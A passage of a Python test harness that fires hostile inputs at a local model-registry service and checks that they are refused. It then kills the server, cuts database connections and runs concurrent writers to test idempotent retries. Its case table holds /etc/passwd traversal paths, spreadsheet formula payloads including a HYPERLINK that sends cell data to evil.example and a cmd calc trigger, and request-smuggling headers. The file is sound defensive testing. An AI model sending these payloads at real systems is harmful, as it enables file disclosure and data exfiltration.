        _post("UTF-16 body", "utf8", signals, utf16, note="JSON must be UTF-8", **info),
        _post("raw 0xFF 0xFE in the path", "utf8", b"/models/\xff\xfe/signals", plain),
        _post("%FF%FE in the path", "utf8", "/models/%FF%FE/signals", plain),
        _post("overlong UTF-8 %C0%AE in the path", "utf8", "/models/%C0%AE%C0%AE/signals", plain),
        _post("encoded surrogate %ED%A0%80", "utf8", "/models/a%ED%A0%80/signals", plain),
        _get("%FF in a web console path", "utf8", "/web/models/%FF", auth="session"),
        _get("%FF in a query", "utf8", "/timeline?model=%FF"),
        # Model names a reader cannot tell apart.
        _post("zero-width space in a name", "names", path_of("faults\u200bmodel"), registered),
        _post("zero-width joiner in a name", "names", path_of("faults\u200dmodel"), registered),
        _post("word joiner in a name", "names", path_of("faults\u2060model"), registered),
        _post("right-to-left override in a name", "names", path_of("\u202eledom"), registered),
        _post("bidi isolate in a name", "names", path_of("a\u2066model\u2069"), registered),
        _post("Cyrillic a in a Latin name", "names", path_of("f\u0430ults-model"), registered),
        _post("Cyrillic o in a Latin name (signal)", "names",
              path_of("faults-m\u043edel", "/signals"), plain),
        _post("NFD spelling of a registered name", "names", path_of(nfd), registered,
              note="its NFC spelling is registered"),
        _post("all-Cyrillic look-alike of 'scope'", "names",
              path_of("\u0455\u0441\u043e\u0440\u0435"), registered,
              note="one script: the name rules allow it", **info),
        _post("fullwidth Latin name", "names", path_of("\uff46\uff41\uff55\uff4c\uff54"),
              registered, note="one script (Latin)", **info),
        _post("a 201-character name", "names", path_of("x" * 201, "/signals"), plain),
        # Numbers.
        _post("value 1e309 (overflows a double)", "numbers", signals, _with_raw("1e309")),
        _post("value NaN", "numbers", signals, _with_raw("NaN")),
        _post("value -Infinity", "numbers", signals, _with_raw("-Infinity")),
        _post("value of 5,000 digits", "numbers", signals, _with_raw("1" + "0" * 5000)),
        _post("value 1e-400 (underflows)", "numbers", signals, _with_raw("1e-400"),
              note="reads as 0.0", **info),
        _post("If-Match of 20 digits", "numbers", signals, plain,
              headers=(("If-Match", f'"{big}"'),)),
        _get("version=10^20 (API)", "numbers", f"/models/{MODEL}?version={big}"),
        _get("timeline after=10^20 (API)", "numbers", f"/timeline?after={big}"),
        _get("version=10^20 (web)", "numbers", f"{web_model}?version={big}", auth="session"),
        _get("limit=10^30 (web)", "numbers", "/web/timeline?limit=1" + "0" * 30, auth="session"),
        # Dates out of range.
        _post("period_end 9999-12-31", "dates", signals, _signal_text(period_end="9999-12-31")),
        _post("period_start 2024-02-30", "dates", signals,
              _signal_text(period_start="2024-02-30")),
        _post("effective_at year 1 +01:00", "dates", signals,
              _signal_text(effective_at="0001-01-01T00:00:00+01:00")),
        _post("effective_at year 9999 -01:00", "dates", signals,
              _signal_text(effective_at="9999-12-31T23:59:59-01:00")),
        _post("release_date 0000-01-01", "dates", path_of("faults-year-zero"), year_zero),
        _get("as_of year 1 (API)", "dates", f"/models/{MODEL}?as_of=0001-01-01T00:00:00%2B01:00"),
        _get("until year 9999 (API)", "dates", "/timeline?until=9999-12-31T23:59:59-01:00"),
        _get("fairness as_of 9999-12-31 (API)", "dates", "/reports/fairness?as_of=9999-12-31"),
        _get("since year 1 (web)", "dates", "/web/timeline?since=0001-01-01T00:00%2B05:00",
             auth="session"),
        _get("until year 9999 (web)", "dates", "/web/timeline?until=9999-12-31T23:59-14:00",
             auth="session"),
        _get("as_of year 9999 (web)", "dates", f"{web_model}?as_of=9999-12-31T23:59Z",
             auth="session"),
        _get("fairness as_of year 1 (web)", "dates", "/web/fairness?as_of=0001-01-01",
             auth="session"),
        # NUL bytes.
        _post("NUL in the rationale", "nul", signals, _signal_text("a\u0000b")),
        _post("NUL in the unit", "nul", signals, _signal_text(unit="api\u0000calls")),
        _post("%00 in the model path", "nul", "/models/a%00b/signals", plain),
        _get("%00 in a query (API)", "nul", "/timeline?actor=%00"),
        _get("%00 in a query (web)", "nul", "/web/search?q=%00", auth="session"),
        _post("raw NUL in a header", "nul", signals, plain,
              headers=(("Idempotency-Key", b"a\x00b"),)),
        # Formula text: free text may hold it; the CSV report must neutralise it.
        _post("=HYPERLINK in a rationale", "csv", signals,
              _signal_text('=HYPERLINK("http://evil.example/?"&A1,"Click")'),
              note="free text", **info),
        _post("@SUM in a rationale", "csv", signals, _signal_text("@SUM(1+1)*cmd|' /C calc'!A0"),
              note="free text", **info),
        _post("model named =1+1", "csv", path_of("=1+1"), registered,
              note="then read in the CSV report", **info),
        _post("model named +cmd|calc", "csv", path_of("+cmd|calc"), registered,
              note="then read in the CSV report", **info),
        # Path traversal.
        _get("static ..%2F to /etc/passwd", "traversal",
             "/web/static/" + "..%2F" * 6 + target_file.replace("/", "%2F"), auth=None),
        _get("static raw ../ to /etc/passwd", "traversal",
             "/web/static/" + "../" * 6 + target_file, auth=None),
        _get("static %2e%2e/ to /etc/passwd", "traversal",
             "/web/static/" + "%2e%2e/" * 6 + target_file, auth=None),
        _get("tile path ../", "traversal", "/tlog/tile/0/" + "../" * 4 + target_file, auth=None),
        _get("leaf ..%2F", "traversal", "/log/leaves/..%2F..%2Fetc%2Fpasswd", auth=None),
        _get("manifest of ../../etc/passwd", "traversal",
             "/models/..%2F..%2Fetc%2Fpasswd/manifest", auth=None),
        _post("model named ../../etc/passwd", "traversal", path_of("../../" + target_file),
              registered, note="a name, not a path", **info),
        # Headers.
        _post("Idempotency-Key of 10,000 chars", "headers", signals, plain,
              headers=(("Idempotency-Key", "k" * 10_000),)),
        _post("If-Match: *", "headers", signals, plain, headers=(("If-Match", "*"),)),
        _post("Authorization of 64 KiB", "headers", signals, plain, auth=None,
              headers=(("Authorization", "Bearer " + "a" * 65536),)),
        _post("Content-Length: -1", "headers", signals, None,
              headers=(("Content-Length", "-1"),)),
        _post("Content-Length and chunked", "headers", signals, None,
              headers=(("Content-Length", "4"), ("Transfer-Encoding", "chunked"))),
        _post("JSON sent as text/plain", "headers", signals, plain, content_type="text/plain",
              **info),
    ]
    # fmt: on


def _session(fx: Fixture) -> str:
    """Sign in to the web console as the auditor; the session cookie."""
    form = exchange(fx.port, "GET", "/web/login")
    csrf = re.search(rb'name="csrf" value="([^"]+)"', form.body)
    cookie = next(
        (v.split(";")[0] for k, v in form.headers if k.lower() == "set-cookie" and "csrf" in v),
        None,
    )
    if form.status != 200 or csrf is None or cookie is None:
        raise HarnessError(f"the web console's sign-in form: {form.label}")
    data = (
        f"token={quote(fx.tokens['auditor'])}&csrf={quote(csrf.group(1).decode())}&next=/web/"
    ).encode()
    signed = exchange(
        fx.port,
        "POST",
        "/web/login",
        headers=[("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", cookie)],
        body=data,
    )
    session = next(
        (
            v.split(";")[0]
            for k, v in signed.headers
            if k.lower() == "set-cookie" and "session" in v
        ),
        None,
    )
    if signed.status != 303 or session is None:
        raise HarnessError(f"signing in to the web console: {signed.label}")
    return session


def _describe(case: Hostile) -> str:
    target = case.target if isinstance(case.target, bytes) else case.target.encode()
    shown = target.decode("latin-1")
    shown = shown if len(shown) <= 60 else shown[:57] + "..."
    body = "" if case.body is None else f" ({len(case.body):,} B body)"
    return f"{case.method} {shown!r}{body}"


def hostile_inputs(fx: Fixture) -> dict[str, Any]:
    _say("  2. hostile inputs")
    session = _session(fx)
    rows: list[dict[str, Any]] = []
    for case in hostile_table():
        if STOP.is_set():
            break
        headers: list[tuple[str, str | bytes]] = []
        if case.auth == "session":
            headers.append(("Cookie", session))
        elif case.auth is not None:
            headers.append(("Authorization", f"Bearer {fx.tokens[case.auth]}"))
        if case.body is not None:
            headers.append(("Content-Type", case.content_type))
        headers += list(case.headers)
        raw_framing = any(
            name.lower() in {"content-length", "transfer-encoding"} for name, _ in case.headers
        )
        before = fx.store.event_count()
        if raw_framing:
            answer = _raw_exchange(fx.port, case, headers)
        else:
            answer = exchange(fx.port, case.method, case.target, headers=headers, body=case.body)
        died = not fx.server.alive()
        if died:
            fx.server.ensure_running()
        appended = fx.store.event_count() - before
        leaked = b"root:x:0:0" in answer.body
        server_error = answer.status is not None and answer.status >= 500
        rows.append(
            {
                "name": case.name,
                "group": case.group,
                "sent": _describe(case),
                "status": answer.status,
                "answer": answer.label,
                "should_refuse": case.refuse,
                "events_appended": appended,
                "server_error": server_error,
                "no_answer": answer.status is None,
                "accepted_but_should_refuse": case.refuse
                and answer.status is not None
                and answer.status < 400,
                "leaked_file": leaked,
                "server_died": died,
                "note": case.note,
            }
        )
    csv = _csv_formulas(fx)
    refused_rows = [r for r in rows if r["should_refuse"]]
    return {
        "cases": rows,
        "requests": len(rows),
        "server_errors": sum(r["server_error"] for r in rows),
        "no_answer": sum(r["no_answer"] for r in rows),
        "events_by_refusable": sum(r["events_appended"] for r in refused_rows),
        "accepted_but_should_refuse": sum(r["accepted_but_should_refuse"] for r in rows),
        "leaked_files": sum(r["leaked_file"] for r in rows),
        "server_deaths": sum(r["server_died"] for r in rows),
        "csv_formula_cells": csv,
    }


def _raw_exchange(port: int, case: Hostile, headers: list[tuple[str, str | bytes]]) -> Answer:
    """A request whose framing headers are the case's own (sent as given, with a short body)."""
    began = time.monotonic()
    target = case.target if isinstance(case.target, bytes) else case.target.encode()
    lines = [b"%s %s HTTP/1.1" % (case.method.encode(), target), b"Host: 127.0.0.1:%d" % port]
    lines.append(b"Connection: close")
    for name, value in headers:
        lines.append(
            name.encode() + b": " + (value if isinstance(value, bytes) else value.encode())
        )
    payload = b"\r\n".join(lines) + b"\r\n\r\n" + b"4\r\nabcd\r\n0\r\n\r\n"
    try:
        with contextlib.closing(socket.create_connection(("127.0.0.1", port), timeout=10)) as sock:
            sock.sendall(payload)
            response = http.client.HTTPResponse(sock, method=case.method)
            response.begin()
            body = response.read()
            return Answer(
                response.status, response.getheaders(), body, seconds=time.monotonic() - began
            )
    except (OSError, http.client.HTTPException) as error:
        return Answer(None, [], b"", type(error).__name__, seconds=time.monotonic() - began)


def _csv_formulas(fx: Fixture) -> int | None:
    """Cells of ``reliquary report fairness --csv`` that a spreadsheet would run as a formula."""
    done = cli(fx.store, "report", "fairness", "--csv")
    if done.returncode != 0:
        return None
    import csv
    import io

    count = 0
    for row in csv.reader(io.StringIO(done.stdout.decode(errors="replace"))):
        for cell in row:
            if re.match(r"[=@+\t\r]|-[^0-9.]", cell):
                count += 1
    return count


def print_hostile_inputs(result: dict[str, Any]) -> None:
    print("2. Hostile inputs (refuse: the request must be refused and append nothing)")
    print(f"   {'case':<42} {'sent':<54} {'answer':<32} {'events':>6}")
    for r in result["cases"]:
        flag = "" if r["should_refuse"] else " (info)"
        bad = ""
        if r["server_error"]:
            bad = "  <- 5xx"
        elif r["accepted_but_should_refuse"] or (r["should_refuse"] and r["events_appended"]):
            bad = "  <- should be refused"
        elif r["no_answer"]:
            bad = "  <- no answer"
        if r["server_died"]:
            bad += "  <- the server died"
        print(
            f"   {(r['name'] + flag)[:42]:<42} {r['sent'][:54]:<54} {r['answer'][:32]:<32} "
            f"{r['events_appended']:>6}{bad}"
        )
    csv = result["csv_formula_cells"]
    print(
        f"   {result['requests']} requests: {result['server_errors']} answered 5xx, "
        f"{result['no_answer']} unanswered, {result['accepted_but_should_refuse']} accepted that "
        f"should be refused, {result['events_by_refusable']} events appended by them; "
        f"files leaked: {result['leaked_files']}; CSV report cells that start a formula: "
        f"{'(report failed)' if csv is None else csv}"
    )
    print()


# -- 3, 4, 6. writers that retry, and the faults ------------------------------------------------


class World:
    """What the writers know of the server: its port, whether it is down, when it came back."""

    def __init__(self, server: Server) -> None:
        self.server = server
        self.down = threading.Event()
        self.abort = threading.Event()
        self.ready_at = time.monotonic()


@dataclass
class Job:
    """One command under one Idempotency-Key, driven until a final answer."""

    number: int
    key: str
    path: str
    body: bytes
    started: float
    finished: float | None = None
    attempts: int = 0
    final: Answer | None = None
    stuck: bool = False
    given_up: bool = False
    conflicts: int = 0
    labels: Counter[str] = field(default_factory=Counter)

    @property
    def acknowledged(self) -> bool:
        return self.final is not None and self.final.status == 201


class Writers:
    """Jobs, numbered; each job's body carries the marker ``<tag-N>`` in its rationale."""

    def __init__(self, fx: Fixture, tag: str, models: list[str], keys: bool = True) -> None:
        self.fx = fx
        self.keys = keys
        """False: the control run, no Idempotency-Key (a retry may then record twice)."""
        self.tag = tag
        self.models = models
        self.jobs: list[Job] = []
        self.lock = threading.Lock()
        self.pending: list[Job] = []
        self.labels: Counter[str] = Counter()

    def new_job(self) -> Job:
        with self.lock:
            number = len(self.jobs)
            model = self.models[number % len(self.models)]
            job = Job(
                number,
                f"{self.tag}-{number}-{uuid.uuid4().hex[:8]}",
                path_of(model, "/signals"),
                json_bytes(
                    signal_body(f"Fault suite write <{self.tag}-{number}>.", value=float(number))
                ),
                time.monotonic(),
            )
            self.jobs.append(job)
        return job

    def take_pending(self) -> Job | None:
        with self.lock:
            return self.pending.pop() if self.pending else None

    def headers(self, job: Job) -> list[tuple[str, str | bytes]]:
        if not self.keys:
            return bearer(self.fx.tokens["curator"])
        return [*bearer(self.fx.tokens["curator"]), ("Idempotency-Key", job.key)]

    def note(self, job: Job, answer: Answer) -> None:
        label = answer.label.replace(" replayed", "") if answer.status != 201 else answer.label
        job.labels[label] += 1
        with self.lock:
            self.labels[label] += 1

    def drive(
        self,
        job: Job,
        world: World,
        rng: random.Random,
        conflict_attempts: int | None = None,
    ) -> None:
        """Send the job's request until a final answer; retry what a careful client retries."""
        while not (STOP.is_set() or world.abort.is_set()):
            if world.down.is_set():
                time.sleep(0.02)
                continue
            if time.monotonic() - max(job.started, world.ready_at) > STUCK_AFTER:
                job.stuck = True
                return
            answer = exchange(
                world.server.port,
                "POST",
                job.path,
                headers=self.headers(job),
                body=job.body,
                timeout=10,
            )
            job.attempts += 1
            self.note(job, answer)
            if answer.status is None or answer.status >= 500:
                time.sleep(rng.uniform(0.02, 0.1))
                continue
            if answer.status == 409 and answer.problem == "idempotency-in-progress":
                time.sleep(_retry_after(answer, rng))
                continue
            if answer.status == 409 and answer.problem == "concurrency-conflict":
                job.conflicts += 1
                if conflict_attempts is not None and job.conflicts >= conflict_attempts:
                    job.final, job.finished = answer, time.monotonic()
                    job.given_up = True
                    return
                time.sleep(_retry_after(answer, rng, default=rng.uniform(0.01, 0.05)))
                continue
            job.final, job.finished = answer, time.monotonic()
            return

    def stored(self) -> Counter[int]:
        """How many events each job's marker is in, by job number."""
        return self.fx.store.marker_counts(self.tag)

    def count(self) -> dict[str, Any]:
        """Compare every job's answer with the events stored under its marker."""
        stored = self.stored()
        lost = [j.number for j in self.jobs if j.acknowledged and stored[j.number] == 0]
        duplicated = [j.number for j in self.jobs if stored[j.number] > 1]
        refused_yet_stored = [
            j.number
            for j in self.jobs
            if j.final is not None and not j.acknowledged and stored[j.number] > 0
        ]
        finals = Counter(j.final.label for j in self.jobs if j.final is not None)
        return {
            "keys": len(self.jobs),
            "requests": sum(j.attempts for j in self.jobs),
            "acknowledged": sum(j.acknowledged for j in self.jobs),
            "stuck": sum(j.stuck for j in self.jobs),
            "given_up": sum(j.given_up for j in self.jobs),
            "unfinished": sum(1 for j in self.jobs if j.final is None and not j.stuck),
            "lost": len(lost),
            "duplicated": len(duplicated),
            "duplicate_events": sum(stored[n] - 1 for n in duplicated),
            "refused_yet_stored": len(refused_yet_stored),
            "events_with_marker": sum(stored.values()),
            "final_answers": dict(finals.most_common()),
            "answers": dict(self.labels.most_common()),
            "retried_keys": sum(1 for j in self.jobs if j.attempts > 1),
            "slowest_final_seconds": round(
                max((j.finished - j.started for j in self.jobs if j.finished), default=0.0), 2
            ),
            "with_keys": self.keys,
            "examples": {
                "lost": lost[:5],
                "duplicated": duplicated[:5],
                "stuck": [j.key for j in self.jobs if j.stuck][:5],
            },
        }


def _retry_after(answer: Answer, rng: random.Random, default: float | None = None) -> float:
    value = answer.header("Retry-After")
    try:
        seconds = float(value) if value is not None else None
    except ValueError:
        seconds = None
    if seconds is None:
        seconds = default if default is not None else rng.uniform(0.1, 0.3)
    return min(max(seconds, 0.0), 5.0)


def _run_writers(
    writers: Writers,
    world: World,
    count: int,
    seed: int,
    running: threading.Event,
    per_writer: int | None = None,
    conflict_attempts: int | None = None,
) -> list[threading.Thread]:
    """``count`` writer threads: new jobs while ``running`` is set (or ``per_writer`` each)."""

    def loop(index: int) -> None:
        rng = random.Random(seed * 1000 + index)
        made = 0
        while not (STOP.is_set() or world.abort.is_set()):
            job = writers.take_pending()
            if job is None:
                if per_writer is not None and made >= per_writer:
                    return
                if per_writer is None and not running.is_set():
                    return
                job = writers.new_job()
                made += 1
            writers.drive(job, world, rng, conflict_attempts)

    threads = [threading.Thread(target=loop, args=(i,), daemon=True) for i in range(count)]
    for thread in threads:
        thread.start()
    return threads


def _join(threads: list[threading.Thread], limit: float) -> None:
    deadline = time.monotonic() + limit
    for thread in threads:
        while thread.is_alive() and time.monotonic() < deadline:
            thread.join(0.2)
    if any(thread.is_alive() for thread in threads):
        raise HarnessError(f"writer threads still running after {limit:.0f} s")


def _log_caught_up(fx: Fixture, timeout: float = 20.0) -> dict[str, Any]:
    """Whether the log's signed tree reaches every stored event (its follower survived)."""
    events = fx.store.event_count()
    deadline = time.monotonic() + timeout
    size = None
    while time.monotonic() < deadline and not STOP.is_set():
        answer = exchange(fx.port, "GET", "/tlog/checkpoint", timeout=5)
        if answer.status == 200:
            lines = answer.body.decode(errors="replace").splitlines()
            if len(lines) > 1 and lines[1].isdigit():
                size = int(lines[1])
                if size >= events:
                    return {"events": events, "checkpoint_size": size, "caught_up": True}
        time.sleep(0.5)
    return {"events": events, "checkpoint_size": size, "caught_up": False}


def _verify(fx: Fixture) -> dict[str, Any]:
    done = cli(fx.store, "verify", timeout=300)
    line = _last_line(done.stderr) or _last_line(done.stdout)
    return {"exit": done.returncode, "said": line[:200]}


def _finish_writes(fx: Fixture, writers: Writers, world: World) -> dict[str, Any]:
    """After the writers: the log, the counts (server stopped), verify; the server again."""
    log = _log_caught_up(fx)
    fx.server.stop()
    counts = writers.count()
    counts["verify"] = _verify(fx)
    counts["log"] = log
    world.down.clear()
    try:
        fx.server.start()
    except ServiceDown as error:  # the counts stand; the next scenario will say it too
        counts["restart_after"] = str(error)
    return counts


def killed_mid_request(fx: Fixture, settings: Settings) -> dict[str, Any]:
    kills, writers_count, seed = settings.kills_for(fx.store), settings.writers, settings.seed
    _say(f"  3. killed mid-request ({kills} kills)")
    rng = random.Random(seed)
    models = [f"kill-{i:02d}" for i in range(16)]
    for model in models:
        fx.must(fx.post(path_of(model), register_body()), f"register {model}")
    writers = Writers(fx, f"k{uuid.uuid4().hex[:6]}", models, keys=settings.keys)
    world = World(fx.server)
    running = threading.Event()
    running.set()
    threads = _run_writers(writers, world, writers_count, seed, running)
    try:
        modes, restart_seconds, failure = _kill_during(fx, writers, world, kills, rng)
    finally:
        running.clear()
    if failure:
        world.abort.set()
        _join(threads, 30)
        return {"kills": sum(modes.values()), "error": f"the server did not start again: {failure}"}
    # Leftover jobs (e.g. of the last after-body kill) are driven by the writers before they end.
    _join(threads, STUCK_AFTER + 60)
    for job in writers.pending:
        writers.drive(job, world, rng)
    result = _finish_writes(fx, writers, world)
    result["kills"] = sum(modes.values())
    result["kill_modes"] = dict(modes)
    result["restart_seconds"] = round(sum(restart_seconds) / max(1, len(restart_seconds)), 2)
    return result


def _kill_during(
    fx: Fixture, writers: Writers, world: World, kills: int, rng: random.Random
) -> tuple[Counter[str], list[float], str]:
    """SIGKILL the service ``kills`` times while the writers write, restarting it each time.

    Every third kill lands right after a request's body is sent, before its answer is read
    (that job is left to the writers to retry). Returns the kinds of kill, the restart times,
    and why the service did not start again ("" if it always did).
    """
    modes: Counter[str] = Counter()
    restart_seconds: list[float] = []
    for number in range(kills):
        if STOP.is_set():
            break
        time.sleep(rng.uniform(0.3, 1.2))
        if number % 3 == 2:
            # Right after a request's body is sent, before its answer is read.
            job = writers.new_job()
            world.down.set()
            answer = exchange(
                fx.port,
                "POST",
                job.path,
                headers=writers.headers(job),
                body=job.body,
                timeout=10,
                after_send=fx.server.kill,
            )
            job.attempts += 1
            writers.note(job, answer)
            if answer.status is not None and answer.status != 409 and answer.status < 500:
                job.final, job.finished = answer, time.monotonic()  # before the kill landed
            else:
                with writers.lock:
                    writers.pending.append(job)
            modes["after the body, before the answer"] += 1
        else:
            world.down.set()
            fx.server.kill()
            modes["at a random moment"] += 1
        began = time.monotonic()
        try:
            fx.server.start()
        except ServiceDown as error:
            return modes, restart_seconds, str(error)
        restart_seconds.append(time.monotonic() - began)
        world.ready_at = time.monotonic()
        world.down.clear()
        _say(f"    kill {number + 1}/{kills}: {writers.labels.get('201', 0)} acknowledged so far")
    return modes, restart_seconds, ""


def terminated_connections(fx: Fixture, settings: Settings) -> dict[str, Any]:
    rounds, writers_count, seed = settings.terminations, settings.writers, settings.seed
    _say(f"  4. PostgreSQL connections terminated ({rounds} rounds)")
    store = fx.store
    if not isinstance(store, PostgresStore):
        raise HarnessError("scenario 4 needs PostgreSQL")
    rng = random.Random(seed + 4)
    models = [f"term-{i:02d}" for i in range(16)]
    for model in models:
        fx.must(fx.post(path_of(model), register_body()), f"register {model}")
    writers = Writers(fx, f"t{uuid.uuid4().hex[:6]}", models, keys=settings.keys)
    world = World(fx.server)
    running = threading.Event()
    running.set()
    threads = _run_writers(writers, world, writers_count, seed + 4, running)
    effective = 0
    terminated = 0
    empty = 0
    try:
        time.sleep(0.5)
        while effective < rounds and not STOP.is_set():
            time.sleep(rng.uniform(0.1, 0.5))
            count = store.terminate_others()
            terminated += count
            if count:
                effective += 1
                world.ready_at = time.monotonic()
            else:
                empty += 1
                if empty > rounds * 20:
                    break
            _say(f"    round {effective}/{rounds}: {count} connection(s) terminated")
    finally:
        running.clear()
    _join(threads, STUCK_AFTER + 60)
    alive = fx.server.alive()
    result = _finish_writes(fx, writers, world)
    result["faults"] = effective
    result["connections_terminated"] = terminated
    result["server_alive_after"] = alive
    return result


def eight_writers(fx: Fixture, per_writer: int, seed: int) -> dict[str, Any]:
    _say(f"  6. 8 writers on one model ({per_writer} commands each)")
    model = f"contended-{uuid.uuid4().hex[:6]}"
    fx.must(fx.post(path_of(model), register_body()), "register the contended model")
    writers = Writers(fx, f"w{uuid.uuid4().hex[:6]}", [model])
    world = World(fx.server)
    running = threading.Event()
    began = time.monotonic()
    threads = _run_writers(
        writers,
        world,
        8,
        seed + 6,
        running,
        per_writer=per_writer,
        conflict_attempts=CONFLICT_ATTEMPTS,
    )
    _join(threads, 600)
    seconds = time.monotonic() - began
    result = writers.count()
    model_state = exchange(fx.port, "GET", path_of(model), headers=bearer(fx.tokens["auditor"]))
    version = None
    if model_state.status == 200:
        with contextlib.suppress(ValueError, AttributeError):
            version = json.loads(model_state.body).get("version")
    result["model_version"] = version
    result["expected_version"] = 1 + result["acknowledged"]
    result["conflict_answers"] = sum(j.conflicts for j in writers.jobs)
    result["seconds"] = round(seconds, 1)
    return result


def eight_processes(fx: Fixture, per_writer: int) -> dict[str, Any]:
    """8 ``reliquary apply`` processes, ``per_writer`` lines each, on one model at once."""
    _say(f"  6. 8 reliquary apply processes on one model ({per_writer} lines each)")
    model = f"contended-apply-{uuid.uuid4().hex[:6]}"
    fx.must(fx.post(path_of(model), register_body()), "register the contended model")
    tag = f"p{uuid.uuid4().hex[:6]}"
    files = []
    for writer in range(8):
        path = fx.store.workdir / f"apply-{writer}.jsonl"
        lines = []
        for line in range(per_writer):
            number = writer * per_writer + line
            document = {
                "command": "record_signal",
                "model": model,
                "actor": {"id": f"faults-apply-{writer}", "role": "curator"},
                **signal_body(f"Fault suite apply <{tag}-{number}>.", value=float(number)),
            }
            lines.append(json.dumps(document))
        path.write_text("\n".join(lines) + "\n")
        files.append(path)
    began = time.monotonic()
    processes = [
        _spawn(
            [_reliquary(), "apply", str(path)],
            env=fx.store.env(),
            cwd=fx.store.workdir,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        for path in files
    ]
    outcomes: list[tuple[int | str, str]] = []
    for process in processes:
        try:
            _, err = process.communicate(timeout=max(5.0, 300 - (time.monotonic() - began)))
            # `apply` says "line N: <reason>", then how many lines before it stay applied.
            text = err.decode(errors="replace")
            refused = re.search(r"^.*\bline \d+: .*$", text, re.MULTILINE)
            outcomes.append((process.returncode, refused.group(0) if refused else _last_line(err)))
        except subprocess.TimeoutExpired:
            _end(process)
            outcomes.append(("timeout", "timed out"))
        _forget(process)
    seconds = time.monotonic() - began
    stored = fx.store.marker_counts(tag)
    lost = given_up = refused_yet_stored = 0
    errors: Counter[str] = Counter()
    first: dict[str, str] = {}
    for writer, (code, said) in enumerate(outcomes):
        numbers = range(writer * per_writer, (writer + 1) * per_writer)
        stopped = per_writer  # the first line not applied (0-based)
        if code != 0:
            kind = re.sub(r"\d+", "#", said)[:160]
            errors[kind] += 1
            first.setdefault(kind, said[:300])
            found = re.search(r"\bline (\d+):", said)
            stopped = int(found.group(1)) - 1 if found else 0
        for line, number in enumerate(numbers):
            if line < stopped and stored[number] == 0:
                lost += 1
            if line >= stopped:
                if stored[number]:
                    refused_yet_stored += 1
                else:
                    given_up += 1
    return {
        "processes": 8,
        "lines": 8 * per_writer,
        "exit_codes": dict(Counter(str(code) for code, _ in outcomes)),
        "errors": [{"count": n, "first": first[kind]} for kind, n in errors.items()],
        "stored": sum(1 for n in stored if stored[n]),
        "lost": lost,
        "duplicated": sum(1 for n in stored if stored[n] > 1),
        "given_up": given_up,
        "refused_yet_stored": refused_yet_stored,
        "seconds": round(seconds, 1),
    }


def print_writes(title: str, result: dict[str, Any], faults: str) -> None:
    print(title)
    keys = "under their own Idempotency-Key"
    if not result.get("with_keys", True):
        keys = "WITHOUT an Idempotency-Key (the control run)"
    if "error" in result:
        print(f"   {faults}; {result['error']}")
        print()
        return
    print(
        f"   sent: {result['keys']} commands {keys}, {result['requests']} requests "
        f"({result['retried_keys']} retried); {faults}"
    )
    answers = ", ".join(f"{label} x{n}" for label, n in result["answers"].items())
    print(f"   came back: {answers}")
    finals = ", ".join(f"{label} x{n}" for label, n in result["final_answers"].items())
    print(f"   final answers: {finals}")
    print(
        f"   stored: {result['events_with_marker']} events with a marker; lost acknowledged "
        f"{result['lost']}, duplicated {result['duplicated']}, stuck {result['stuck']}, given up "
        f"{result['given_up']}, refused yet stored {result['refused_yet_stored']}; the slowest "
        f"key had its final answer after {result['slowest_final_seconds']} s"
    )
    if "verify" in result:
        log = result["log"]
        print(
            f"   reliquary verify: exit {result['verify']['exit']} ({result['verify']['said']}); "
            f"log checkpoint {log['checkpoint_size']} of {log['events']} events"
            f"{'' if log['caught_up'] else ' (NOT caught up in 20 s)'}"
        )
    if "model_version" in result:
        print(
            f"   the model's version: {result['model_version']} (1 + acknowledged = "
            f"{result['expected_version']}); {result['conflict_answers']} concurrency-conflict "
            f"answers; {result['seconds']} s"
        )
    print()


# -- 5. simultaneous starts ---------------------------------------------------------------------


def simultaneous_starts(store: Store, count: int) -> dict[str, Any]:
    _say(f"  5. {count} simultaneous starts")
    name = f"starts_{uuid.uuid4().hex[:8]}"
    url = store.fresh_url(name)
    env = store.env(url)
    files = []
    for index in range(count):
        path = store.workdir / f"start-{index}.jsonl"
        document = {
            "command": "register_model",
            "model": f"start-{index:03d}",
            "actor": {"id": "faults-starter", "role": "curator"},
            **register_body("Registered by one of the simultaneous starts."),
        }
        path.write_text(json.dumps(document) + "\n")
        files.append(path)
    began = time.monotonic()
    processes = [
        _spawn(
            [_reliquary(), "apply", str(path)],
            env=env,
            cwd=store.workdir,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        for path in files
    ]
    exits: Counter[str] = Counter()
    kinds: dict[str, str] = {}
    kind_counts: Counter[str] = Counter()
    for process in processes:
        try:
            _, err = process.communicate(timeout=max(5.0, 180 - (time.monotonic() - began)))
            code: int | str = process.returncode
        except subprocess.TimeoutExpired:
            _end(process)
            err, code = b"timed out", "timeout"
        _forget(process)
        exits[str(code)] += 1
        if code != 0:
            line = _last_line(err) or f"exit {code} with nothing on stderr"
            kind = re.sub(r"0x[0-9a-f]+|\b[0-9a-f]{8,}\b|\d+", "#", line)[:120]
            kind_counts[kind] += 1
            kinds.setdefault(kind, line[:300])
    seconds = time.monotonic() - began
    stored = store.fresh_event_count(url)
    failures = sum(n for code, n in exits.items() if code != "0")
    return {
        "processes": count,
        "command": "reliquary apply FILE (one register_model each) on "
        + (f"a new schema {name}" if store.backend == "postgres" else "a new SQLite file"),
        "failures": failures,
        "exit_codes": dict(exits),
        "errors": [{"count": kind_counts[k], "first": kinds[k]} for k in kinds],
        "events_stored": stored,
        "seconds": round(seconds, 1),
    }


def print_starts(result: dict[str, Any]) -> None:
    print(f"5. Simultaneous starts: {result['processes']} x {result['command']}")
    codes = ", ".join(f"exit {code} x{n}" for code, n in result["exit_codes"].items())
    print(
        f"   came back: {codes} in {result['seconds']} s; events stored: "
        f"{result['events_stored']} of {result['processes']}"
    )
    for error in result["errors"]:
        print(f"   {error['count']} x {error['first']}")
    print()


# -- 7. sealing and erasure under kills --------------------------------------------------------

SEALED_MODEL = "sealed-model"
REGISTER_FIELDS = ("requester", "organisation", "purpose", "scope")
"""The private values the access register holds opened (`projections.registers`)."""


def _sealed_values(tag: str, number: int) -> dict[str, str]:
    """The private values of one request: each names its job, in brackets (so that the
    value of job 1 is never found inside the value of job 12)."""
    mark = f"[{tag}-{number}]"
    return {
        "requester": f"Faults Person {mark}",
        "organisation": f"Faults Organisation {mark}",
        "purpose": f"faults purpose {mark}",
        "scope": f"faults scope {mark}",
        "rationale": f"faults rationale {mark}",
    }


class SealedWriters(Writers):
    """Writers of ``request_access`` (sealed values), each job as one of the researchers."""

